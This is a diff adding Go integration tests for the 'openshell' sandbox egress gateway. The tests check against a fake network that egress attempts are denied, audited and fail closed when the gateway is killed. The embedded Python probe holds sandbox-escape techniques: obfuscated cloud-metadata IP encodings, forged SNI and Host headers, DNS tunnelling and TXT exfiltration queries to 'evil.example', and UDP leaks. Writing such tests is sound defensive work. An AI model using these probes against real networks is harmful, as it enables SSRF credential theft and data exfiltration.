@@ -1,0 +1,460 @@
+package integration
+
+import (
+	"bufio"
+	"bytes"
+	"context"
+	"encoding/json"
+	"fmt"
+	"io"
+	"net/netip"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"syscall"
+	"testing"
+	"time"
+
+	"github.com/openshell/openshell/runtime"
+	"github.com/openshell/openshell/runtime/egress"
+	"github.com/openshell/openshell/test/fakenet"
+	"github.com/openshell/openshell/test/rootfs"
+)
+
+// egressEnv is a fake internet, a runtime configuration whose gateway
+// dials out into it, and a Debian root with curl and python3.
+type egressEnv struct {
+	net    *fakenet.Net
+	config string
+	audit  string
+	root   string
+}
+
+var zone = map[string]netip.Addr{
+	"allowed.test":  fakenet.WebA,
+	"limited.test":  fakenet.WebA,
+	"reload.test":   fakenet.WebA,
+	"denied.test":   fakenet.WebB,
+	"rebind.test":   fakenet.Metadata,
+	"private.test":  fakenet.Private,
+	"hostself.test": fakenet.HostAddr,
+}
+
+func newEgressEnv(t *testing.T) *egressEnv {
+	t.Helper()
+	if skipReason != "" {
+		t.Skip(skipReason)
+	}
+	cache, _ := filepath.Abs("../.cache/debian-bookworm")
+	root, err := rootfs.Cached(cache, rootfs.Debian)
+	if err != nil {
+		if strings.Contains(err.Error(), "apt-get install debootstrap") {
+			t.Skip(err)
+		}
+		t.Fatal(err)
+	}
+	dir := t.TempDir()
+	z := map[string]netip.Addr{}
+	for k, v := range zone {
+		z[k] = v
+	}
+	n, err := fakenet.Start(dir, z)
+	if err != nil {
+		t.Fatalf("fake internet: %v", err)
+	}
+	t.Cleanup(func() {
+		if err := n.Close(); err != nil {
+			t.Errorf("fake internet: %v", err)
+		}
+	})
+	e := &egressEnv{net: n, config: filepath.Join(dir, "config.toml"), audit: filepath.Join(dir, "audit"), root: root}
+	cfg := fmt.Sprintf("[egress]\ndns_upstream = %q\nuplink_netns = %q\naudit_dir = %q\n", n.DNS.String(), n.Netns, e.audit)
+	if err := os.WriteFile(e.config, []byte(cfg), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	return e
+}
+
+// start starts `openshell run` of a python3 program under the policy
+// file pf, with stdout on a pipe.
+func (e *egressEnv) start(t *testing.T, ctx context.Context, pf, program string) (*exec.Cmd, io.Reader, *bytes.Buffer) {
+	t.Helper()
+	c := exec.CommandContext(ctx, openshellBin, "run", "--config", e.config, "--runsc", runscBin, "--state-dir", stateDir,
+		"--rootfs", e.root, "--policy", pf, "--", "/usr/bin/python3", "-u", "-c", program)
+	out, err := c.StdoutPipe()
+	if err != nil {
+		t.Fatal(err)
+	}
+	var errb bytes.Buffer
+	c.Stderr = &errb
+	if err := c.Start(); err != nil {
+		t.Fatal(err)
+	}
+	return c, out, &errb
+}
+
+// run runs program to the end and returns its output.
+func (e *egressEnv) run(t *testing.T, policyYAML, program string) string {
+	t.Helper()
+	ctx, cancel := context.WithTimeout(context.Background(), 120*time.Second)
+	defer cancel()
+	c, out, errb := e.start(t, ctx, writePolicy(t, policyYAML), program)
+	data, _ := io.ReadAll(out)
+	if err := c.Wait(); err != nil {
+		t.Fatalf("sandbox: %v\n%s\n%s", err, data, errb.String())
+	}
+	assertNothingLeft(t, stateDir)
+	return string(data)
+}
+
+func (e *egressEnv) events(t *testing.T) []egress.Event {
+	t.Helper()
+	files, _ := filepath.Glob(filepath.Join(e.audit, "*.jsonl"))
+	var out []egress.Event
+	for _, f := range files {
+		if err := egress.ReadAuditLog(f, func(ev *egress.Event) error { out = append(out, *ev); return nil }); err != nil {
+			t.Fatal(err)
+		}
+	}
+	return out
+}
+
+const egressPolicy = `version: "1.0"
+name: egress-it
+sandbox:
+  filesystem:
+    allowed_writes: [/tmp]
+  process: {max_processes: 64}
+  network:
+    allowed_egress:
+      - {host: allowed.test, ports: [80, 443]}
+      - {host: "*.wild.test", port: 443}
+      - {host: limited.test, port: 80, rate_limit: "2/minute", max_request_size_kb: 1, max_response_size_mb: 1}
+      - {host: rebind.test, port: 80}
+      - {host: private.test, port: 80}
+      - {host: hostself.test, port: 80}
+`
+
+// probe is run inside the sandbox: one line per case, "name: result".
+const probe = `
+import socket, struct, subprocess, os, sys
+def curl(name, *args):
+    r = subprocess.run(["curl", "-sS", "-m", "5", "-k", *args], capture_output=True, text=True)
+    body = (r.stdout + r.stderr).strip().replace("\n", " ")
+    print(f"{name}: rc={r.returncode} {body}", flush=True)
+def dns(name, qname, qtype):
+    q = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
+    for label in qname.split("."):
+        q += bytes([len(label)]) + label.encode()
+    q += b"\x00" + struct.pack(">HH", qtype, 1)
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
+    s.sendto(q, ("169.254.213.1", 53))
+    try:
+        data = s.recv(1500)
+        print(f"{name}: rcode={data[3] & 15} answers={struct.unpack('>H', data[6:8])[0]}", flush=True)
+    except OSError as e:
+        print(f"{name}: {e}", flush=True)
+np = ["--noproxy", "*"]
+curl("proxy-http", "http://allowed.test/")
+curl("proxy-https", "https://allowed.test/")
+curl("transparent-http", *np, "http://allowed.test/")
+curl("transparent-https", *np, "https://allowed.test/")
+curl("proxy-denied-name", "http://denied.test/")
+curl("proxy-denied-https", "https://denied.test/")
+curl("transparent-denied-name", *np, "http://denied.test/")
+curl("raw-ip-http", *np, "http://198.51.100.20/")
+curl("raw-ip-https", *np, "https://198.51.100.20/")
+curl("proxy-raw-ip", "http://198.51.100.10/")
+curl("forged-sni", *np, "--resolve", "allowed.test:443:198.51.100.20", "https://allowed.test/")
+curl("forged-host", *np, "-H", "Host: allowed.test", "http://198.51.100.20/")
+for enc in ["169.254.169.254", "2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "169.254.43518", "[::ffff:169.254.169.254]", "[fd00:ec2::254]"]:
+    curl("metadata-proxy " + enc, f"http://{enc}/latest/meta-data/")
+    curl("metadata-direct " + enc, *np, f"http://{enc}/latest/meta-data/")
+curl("rebind", "http://rebind.test/")
+curl("private-ip", *np, "http://10.77.0.5/")
+curl("private-name", "http://private.test/")
+curl("host-ip", *np, "http://192.0.2.1/")
+curl("host-name", "http://hostself.test/")
+curl("other-port", *np, "http://198.51.100.10:8080/")
+dns("dns-allowed", "allowed.test", 1)
+dns("dns-tunnel", "6f70656e7368656c6c2d736563726574.evil.example", 1)
+dns("dns-txt", "exfil.evil.example", 16)
+dns("dns-allowed-txt", "allowed.test", 16)
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+for i in range(5):
+    u.sendto(b"leak", ("198.51.100.10", 9999))
+try:
+    ic = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP); ic.settimeout(2)
+    ic.sendto(struct.pack(">BBHHH", 8, 0, 0, 1, 1) + b"ping", ("198.51.100.10", 0))
+    ic.recv(1500); print("icmp: reply", flush=True)
+except OSError as e:
+    print(f"icmp: {e}", flush=True)
+curl("limited-1", "http://limited.test/")
+curl("limited-big-request", "--data-binary", "x" * 4096, "http://limited.test/")
+curl("limited-big-response", "http://limited.test/bytes?n=3000000", "-o", "/dev/null", "-w", "%{size_download}")
+curl("limited-rate", "http://limited.test/")
+curl("wild", "https://a.wild.test/")
+curl("inference", "http://inference.local/v1/models")
+`
+
+func TestEgressGateway(t *testing.T) {
+	e := newEgressEnv(t)
+	out := e.run(t, egressPolicy, probe)
+	got := map[string]string{}
+	for _, line := range strings.Split(out, "\n") {
+		if k, v, ok := strings.Cut(line, ": "); ok {
+			got[k] = v
+		}
+	}
+	reached := func(k string) bool { return strings.Contains(got[k], "hello from") }
+	for _, k := range []string{"proxy-http", "proxy-https", "transparent-http", "transparent-https", "limited-1"} {
+		if !reached(k) {
+			t.Errorf("%s: allowed destination not reached: %q", k, got[k])
+		}
+	}
+	if !strings.Contains(got["proxy-https"], "hello from https 198.51.100.10") || !strings.Contains(got["transparent-https"], "hello from https 198.51.100.10") {
+		t.Errorf("HTTPS went to the wrong server: %q / %q", got["proxy-https"], got["transparent-https"])
+	}
+	denied := []string{
+		"proxy-denied-name", "proxy-denied-https", "transparent-denied-name", "raw-ip-http", "raw-ip-https", "proxy-raw-ip",
+		"forged-sni", "forged-host", "rebind", "private-ip", "private-name", "host-ip", "host-name", "other-port",
+		"limited-big-request", "limited-rate", "wild", "inference",
+	}
+	for _, enc := range []string{"169.254.169.254", "2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "169.254.43518", "[::ffff:169.254.169.254]", "[fd00:ec2::254]"} {
+		denied = append(denied, "metadata-proxy "+enc, "metadata-direct "+enc)
+	}
+	for _, k := range denied {
+		if v, ok := got[k]; !ok || strings.Contains(v, "hello from") {
+			t.Errorf("%s: reached, or did not run: %q", k, v)
+		}
+	}
+	for _, k := range []string{"proxy-denied-name", "proxy-raw-ip", "forged-host", "limited-big-request"} {
+		if !strings.Contains(got[k], `"error":"denied by the openshell egress policy"`) {
+			t.Errorf("%s: want a 403 with a JSON body, got %q", k, got[k])
+		}
+	}
+	if !strings.Contains(got["limited-rate"], "rate_limit") {
+		t.Errorf("limited-rate: %q", got["limited-rate"])
+	}
+	if strings.Contains(got["limited-big-response"], "3000000") {
+		t.Errorf("max_response_size_mb did not stop a 3 MB response: %q", got["limited-big-response"])
+	}
+	if !strings.Contains(got["transparent-denied-name"], "rc=6") {
+		t.Errorf("a disallowed name resolved: %q", got["transparent-denied-name"])
+	}
+	if got["dns-allowed"] != "rcode=0 answers=1" || got["dns-tunnel"] != "rcode=3 answers=0" || got["dns-txt"] != "rcode=3 answers=0" || got["dns-allowed-txt"] != "rcode=0 answers=0" {
+		t.Errorf("dns: allowed %q tunnel %q txt %q allowed-txt %q", got["dns-allowed"], got["dns-tunnel"], got["dns-txt"], got["dns-allowed-txt"])
+	}
+	if strings.Contains(got["icmp"], "reply") {
+		t.Errorf("ICMP got a reply")
+	}
+	for _, q := range e.net.Queries() {
+		if !strings.HasSuffix(strings.Fields(q)[0], ".test") {
+			t.Errorf("the upstream DNS server saw %q", q)
+		}
+		if strings.Contains(q, "evil") || strings.Contains(q, "TXT") {
+			t.Errorf("the upstream DNS server saw a tunnelling query: %q", q)
+		}
+	}
+	if n := e.net.UDPReceived(); n != 0 {
+		t.Errorf("%d UDP datagrams reached the internet", n)
+	}
+
+	// Every denial is in the audit log, and `openshell audit
+	// --violations-only` lists exactly the denials.
+	events := e.events(t)
+	var violations int
+	for _, ev := range events {
+		if ev.Decision != egress.Allow {
+			violations++
+		}
+		if ev.Policy != "egress-it" || len(ev.PolicyHash) != 64 || ev.Sandbox == "" {
+			t.Errorf("audit event without its policy or sandbox: %+v", ev)
+		}
+	}
+	hosts := map[string]bool{}
+	for _, ev := range events {
+		if ev.Decision == egress.Deny {
+			hosts[ev.Host] = true
+		}
+	}
+	for _, h := range []string{"denied.test", "198.51.100.20", "allowed.test", "169.254.169.254", "fd00:ec2::254", "10.77.0.5", "hostself.test", "rebind.test", "limited.test", "inference.local"} {
+		if !hosts[h] {
+			t.Errorf("no denial for %s in the audit log", h)
+		}
+	}
+	c := exec.Command(openshellBin, "audit", "--dir", e.audit, "--violations-only", "--json")
+	data, err := c.Output()
+	if err != nil {
+		t.Fatalf("openshell audit: %v", err)
+	}
+	lines := strings.Split(strings.TrimSpace(string(data)), "\n")
+	if len(lines) != violations || violations < len(denied) {
+		t.Errorf("openshell audit --violations-only printed %d lines; the log has %d denials (%d cases)", len(lines), violations, len(denied))
+	}
+	for _, l := range lines {
+		var ev egress.Event
+		if err := json.Unmarshal([]byte(l), &ev); err != nil || ev.Decision == egress.Allow {
+			t.Errorf("not a violation: %s", l)
+		}
+	}
+	if t.Failed() {
+		t.Logf("sandbox output:\n%s", out)
+	}
+}
+
+// reloadProbe asks for reload.test every 100 ms and prints each change.
+const reloadProbe = `
+import subprocess, time
+last = None
+end = time.time() + 40
+while time.time() < end:
+    r = subprocess.run(["curl", "-s", "-o", "/dev/null", "-w", "%{http_code}", "-m", "2", "http://reload.test/"], capture_output=True, text=True)
+    state = "allowed" if r.stdout == "200" else "denied"
+    if state != last:
+        print(state, flush=True); last = state
+    time.sleep(0.1)
+`
+
+func TestEgressHotReload(t *testing.T) {
+	e := newEgressEnv(t)
+	pf := writePolicy(t, egressPolicy)
+	ctx, cancel := context.WithTimeout(context.Background(), 90*time.Second)
+	defer cancel()
+	c, out, errb := e.start(t, ctx, pf, reloadProbe)
+	defer func() {
+		// openshell run passes SIGTERM to the sandbox and cleans up.
+		_ = c.Process.Signal(syscall.SIGTERM)
+		_ = c.Wait()
+		assertNothingLeft(t, stateDir)
+	}()
+	lines := bufio.NewScanner(out)
+	next := func() string {
+		if !lines.Scan() {
+			t.Fatalf("sandbox ended: %s", errb.String())
+		}
+		return lines.Text()
+	}
+	if s := next(); s != "denied" {
+		t.Fatalf("before reload: %s", s)
+	}
+	pid := sandboxPid(t, "egress-it")
+	start := time.Now()
+	added := strings.Replace(egressPolicy, "      - {host: allowed.test", "      - {host: reload.test, port: 80}\n      - {host: allowed.test", 1)
+	if err := os.WriteFile(pf, []byte(added), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if s := next(); s != "allowed" {
+		t.Fatalf("after adding the host: %s", s)
+	}
+	if d := time.Since(start); d > 2*time.Second {
+		t.Errorf("adding a host took %s, want ≤ 2s", d)
+	} else {
+		t.Logf("host added in %s", d.Round(time.Millisecond))
+	}
+	start = time.Now()
+	if err := os.WriteFile(pf, []byte(egressPolicy), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if s := next(); s != "denied" {
+		t.Fatalf("after removing the host: %s", s)
+	}
+	if d := time.Since(start); d > 2*time.Second {
+		t.Errorf("removing a host took %s, want ≤ 2s", d)
+	} else {
+		t.Logf("host removed in %s", d.Round(time.Millisecond))
+	}
+	// A change outside the network section is refused; the rules stay.
+	fsChange := strings.Replace(egressPolicy, "allowed_writes: [/tmp]", "allowed_writes: [/tmp, /var]", 1)
+	if err := os.WriteFile(pf, []byte(fsChange), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	r := exec.Command(openshellBin, "policy", "reload", "--state-dir", stateDir, "--config", e.config, pid)
+	msg, err := r.CombinedOutput()
+	if err == nil || !strings.Contains(string(msg), "only network rules can change in a running sandbox") {
+		t.Errorf("openshell policy reload of a filesystem change: %v: %s", err, msg)
+	}
+	if sandboxPid(t, "egress-it") != pid {
+		t.Errorf("the sandbox was restarted")
+	}
+}
+
+// sandboxPid finds the one running sandbox of openshell run whose policy
+// is name, and returns its id.
+func sandboxPid(t *testing.T, name string) string {
+	t.Helper()
+	for deadline := time.Now().Add(10 * time.Second); time.Now().Before(deadline); time.Sleep(100 * time.Millisecond) {
+		entries, _ := os.ReadDir(stateDir)
+		for _, en := range entries {
+			if _, st, err := runtime.Open(stateDir, en.Name()); err == nil && st != nil && st.Policy.Name == name && st.Gateway != nil {
+				return st.ID
+			}
+		}
+	}
+	t.Fatalf("no running sandbox with policy %s", name)
+	return ""
+}
+
+// killProbe reaches allowed.test, then keeps trying after the test kills
+// the gateway.
+const killProbe = `
+import subprocess, time, sys
+def get(*args):
+    r = subprocess.run(["curl", "-s", "-o", "/dev/null", "-w", "%{http_code}", "-m", "2", *args], capture_output=True, text=True)
+    return r.stdout
+print("before", get("http://allowed.test/"), flush=True)
+sys.stdin.readline()
+print("after-proxy", get("http://allowed.test/"), flush=True)
+print("after-direct", get("--noproxy", "*", "http://198.51.100.10/"), flush=True)
+print("after-https", get("--noproxy", "*", "-k", "--resolve", "allowed.test:443:198.51.100.10", "https://allowed.test/"), flush=True)
+`
+
+func TestEgressGatewayKilledFailsClosed(t *testing.T) {
+	e := newEgressEnv(t)
+	ctx, cancel := context.WithTimeout(context.Background(), 90*time.Second)
+	defer cancel()
+	c := exec.CommandContext(ctx, openshellBin, "run", "--config", e.config, "--runsc", runscBin, "--state-dir", stateDir,
+		"--rootfs", e.root, "--policy", writePolicy(t, egressPolicy), "--", "/usr/bin/python3", "-u", "-c", killProbe)
+	stdin, _ := c.StdinPipe()
+	stdout, _ := c.StdoutPipe()
+	var errb bytes.Buffer
+	c.Stderr = &errb
+	if err := c.Start(); err != nil {
+		t.Fatal(err)
+	}
+	lines := bufio.NewScanner(stdout)
+	if !lines.Scan() || lines.Text() != "before 200" {
+		t.Fatalf("before the kill: %q %s", lines.Text(), errb.String())
+	}
+	id := sandboxPid(t, "egress-it")
+	_, st, err := runtime.Open(stateDir, id)
+	if err != nil || st.Gateway == nil {
+		t.Fatalf("state: %v", err)
+	}
+	if err := syscall.Kill(st.Gateway.Pid, syscall.SIGKILL); err != nil {
+		t.Fatal(err)
+	}
+	for deadline := time.Now().Add(5 * time.Second); st.Gateway.Alive(); time.Sleep(10 * time.Millisecond) {
+		if time.Now().After(deadline) {
+			t.Fatal("the gateway outlived SIGKILL")
+		}
+	}
+	fmt.Fprintln(stdin)
+	var rest []string
+	for lines.Scan() {
+		rest = append(rest, lines.Text())
+	}
+	if err := c.Wait(); err != nil {
+		t.Fatalf("sandbox: %v\n%s", err, errb.String())
+	}
+	if len(rest) != 3 {
+		t.Fatalf("after the kill: %q\n%s", rest, errb.String())
+	}
+	for _, l := range rest {
+		if strings.HasSuffix(l, " 200") {
+			t.Errorf("reached the internet with the gateway dead: %s", l)
+		}
+	}
+	assertNothingLeft(t, stateDir)
+}
